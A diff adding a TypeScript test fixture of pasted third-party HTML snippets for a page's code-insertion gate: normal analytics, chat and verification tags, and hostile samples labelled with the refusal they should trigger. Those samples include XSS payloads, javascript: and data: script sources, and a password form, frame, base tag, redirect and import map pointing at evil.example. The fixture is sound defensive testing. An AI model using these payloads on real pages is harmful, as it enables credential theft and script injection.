@@ -1,0 +1,55 @@
+/**
+ * Pieces of third-party code as content managers paste them, the usual and the hostile. `elements`: what the page makes of it, by tag; `problem`: the first issue at
+ * the gate, by code; `runs`: what its programs do to `window.ran` when the page is made, in order.
+ */
+export type CodeSample = { readonly name: string; readonly code: string; readonly elements: readonly string[]; readonly problem?: 'refused-tag' | 'refused-attribute' | 'unsafe-address' | 'empty-text'; readonly runs?: readonly string[] }
+
+const ran = (name: string): string => `(window.ran=window.ran||[]).push('${name}');`
+
+export const codeSamples: readonly CodeSample[] = [
+  { name: 'Google Tag Manager', elements: ['script'], code: "<!-- Google Tag Manager -->\n<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://tags.example.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-ABCD123');</script>\n<!-- End -->" },
+  { name: 'the frame of Google Tag Manager for browsers without scripts', elements: [], code: '<noscript><iframe src="https://tags.example.com/ns.html?id=GTM-ABCD123" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>' },
+  { name: 'a tag with its address and its settings', elements: ['script', 'script'], code: `<script async src="https://tags.example.com/gtag/js?id=G-ABCDEF1234"></script><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());${ran('gtag')}</script>`, runs: ['gtag'] },
+  { name: 'Yandex Metrika', elements: ['script'], code: '<script type="text/javascript">(function(m,e,t,r,i,k,a){m[i]=m[i]||function(){(m[i].a=m[i].a||[]).push(arguments)};m[i].l=1*new Date();k=e.createElement(t),a=e.getElementsByTagName(t)[0],k.async=1,k.src=r,a.parentNode.insertBefore(k,a)})(window,document,"script","https://mc.example.com/metrika/tag.js","ym");ym(12345678,"init",{clickmap:true});</script><noscript><div><img src="https://mc.example.com/watch/12345678" style="position:absolute; left:-9999px;" alt=""></div></noscript>' },
+  { name: 'a chat with data attributes', elements: ['script'], code: '<script src="//chat.example.com/widget.js" data-id="42" data-lang="uz" defer></script>' },
+  { name: 'a script with integrity', elements: ['script'], code: '<script src="https://cdn.example.com/a.js" integrity="sha384-abc" crossorigin="anonymous" referrerpolicy="no-referrer"></script>' },
+  { name: 'a module', elements: ['script'], code: `<script type="module">${ran('module')}</script>`, runs: ['module'] },
+  { name: 'a verification', elements: ['meta'], code: '<meta name="google-site-verification" content="abc_DEF-123">' },
+  { name: 'a verification by property', elements: ['meta'], code: '<meta property="fb:domain_verification" content="abc">' },
+  { name: 'preconnecting', elements: ['link', 'link'], code: '<link rel="preconnect" href="https://tags.example.com" crossorigin><link rel="dns-prefetch" href="//mc.example.com">' },
+  { name: 'structured data of its own', elements: ['script'], code: '<script type="application/ld+json">{"@context":"https://schema.org","@type":"WebSite","url":"https://chiroq.example"}</script>' },
+  { name: 'two programs in order', elements: ['script', 'script'], code: `<script>${ran('first')}</script><script>${ran('second')}</script>`, runs: ['first', 'second'] },
+  { name: 'upper case', elements: ['script'], code: `<SCRIPT TYPE="TEXT/JAVASCRIPT">${ran('upper')}</SCRIPT>`, runs: ['upper'] },
+  { name: 'Cyrillic and an emoji in a program', elements: ['script'], code: `<script>${ran('кириллица 🎲')}</script>`, runs: ['кириллица 🎲'] },
+  { name: 'a program with markup in a text', elements: ['script'], code: `<script>var x='<img src=x onerror=alert(1)>';${ran('markup')}</script>`, runs: ['markup'] },
+  { name: 'a program that throws', elements: ['script', 'script'], code: `<script>throw new Error('third party')</script><script>${ran('after')}</script>`, runs: ['after'] },
+  { name: 'a program with a syntax error', elements: ['script', 'script'], code: `<script>function(</script><script>${ran('after')}</script>`, runs: ['after'] },
+  { name: 'endless recursion', elements: ['script', 'script'], code: `<script>function f(){return f()+f()}f()</script><script>${ran('after')}</script>`, runs: ['after'] },
+  { name: 'document.write', elements: ['script'], code: `<script>document.write('<h1>gone</h1>');${ran('write')}</script>`, runs: ['write'] },
+  { name: 'document.open', elements: ['script'], code: `<script>document.open();document.writeln('gone');document.close();${ran('open')}</script>`, runs: ['open'] },
+  { name: 'a program that unwraps eval', elements: ['script', 'script'], code: `<script>eval("window.evaluated=1")</script><script>${ran('after')}</script>`, runs: ['after'] },
+  { name: 'a rejected promise', elements: ['script'], code: `<script>${ran('promise')}Promise.reject(new Error('x')).catch(function(){})</script>`, runs: ['promise'] },
+  { name: 'an unclosed script', elements: ['script'], code: `<script>${ran('unclosed')}`, runs: ['unclosed'] },
+  { name: 'a style sheet', elements: [], problem: 'refused-tag', code: '<style>body{display:none}</style>' },
+  { name: 'a linked style sheet', elements: [], problem: 'refused-attribute', code: '<link rel="stylesheet" href="https://cdn.example.com/a.css">' },
+  { name: 'a frame', elements: [], problem: 'refused-tag', code: '<iframe src="https://evil.example"></iframe>' },
+  { name: 'a pixel', elements: [], problem: 'refused-tag', code: '<img src="https://pixel.example.com/p.gif" onerror="alert(1)">' },
+  { name: 'a form over the page', elements: [], problem: 'refused-tag', code: '<form action="https://evil.example"><input name="password"></form>' },
+  { name: 'a base', elements: [], problem: 'refused-tag', code: '<base href="https://evil.example/">' },
+  { name: 'an object', elements: [], problem: 'refused-tag', code: '<object data="https://evil.example/x.swf"></object>' },
+  { name: 'SVG with a script', elements: [], problem: 'refused-tag', code: '<svg><script>alert(1)</script></svg>' },
+  { name: 'a refresh', elements: [], problem: 'refused-attribute', code: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
+  { name: 'a policy of its own', elements: [], problem: 'refused-attribute', code: `<meta http-equiv="Content-Security-Policy" content="script-src *">` },
+  { name: 'a referrer policy', elements: [], problem: 'refused-attribute', code: '<meta name="REFERRER" content="unsafe-url">' },
+  { name: 'a handler on a script', elements: [], problem: 'refused-attribute', code: '<script src="https://cdn.example.com/a.js" onload="alert(1)"></script>' },
+  { name: 'a javascript address', elements: [], problem: 'unsafe-address', code: '<script src="javascript:alert(1)"></script>' },
+  { name: 'a data address', elements: [], problem: 'unsafe-address', code: '<script src="data:text/javascript,alert(1)"></script>' },
+  { name: 'an address without encryption', elements: [], problem: 'unsafe-address', code: '<script src="http://cdn.example.com/a.js"></script>' },
+  { name: 'an address with a user', elements: [], problem: 'unsafe-address', code: '<script src="https://a@evil.example/a.js"></script>' },
+  { name: 'an import map', elements: [], problem: 'refused-attribute', code: '<script type="importmap">{"imports":{"react":"https://evil.example/r.js"}}</script>' },
+  { name: 'speculation rules', elements: [], problem: 'refused-attribute', code: '<script type="speculationrules">{"prerender":[{"urls":["/cashier"]}]}</script>' },
+  { name: 'a nonce that was copied', elements: [], problem: 'refused-attribute', code: '<script nonce="abc">alert(1)</script>' },
+  { name: 'text that is no code', elements: [], problem: 'refused-tag', code: 'GTM-ABCD123' },
+  { name: 'a good script beside a style', elements: ['script'], problem: 'refused-tag', code: `<style>*{}</style><script>${ran('beside')}</script>`, runs: ['beside'] },
+  { name: 'nothing but a comment', elements: [], problem: 'empty-text', code: '<!-- here goes the code -->' },
+]
